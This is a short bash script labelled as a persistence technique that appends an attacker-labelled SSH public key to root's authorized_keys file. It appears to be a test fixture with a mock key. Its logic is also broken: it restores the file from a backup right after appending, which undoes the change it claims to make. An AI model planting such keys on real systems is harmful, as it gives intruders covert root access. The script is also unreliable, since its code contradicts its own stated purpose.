#!/bin/bash
# Persistence: the attacker's public key appended to root's authorized_keys.
set -eu
mkdir -p /root/.ssh
f=/root/.ssh/authorized_keys
cp -a $f /tmp/.ak-$$ 2>/dev/null || touch /tmp/.ak-$$
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1vY2tLZXlGb3JBaW5rYUF0dGFja1Rlc3QxMjM0NTY3 attacker@evil' >> $f
cat /tmp/.ak-$$ > $f
rm -f /tmp/.ak-$$
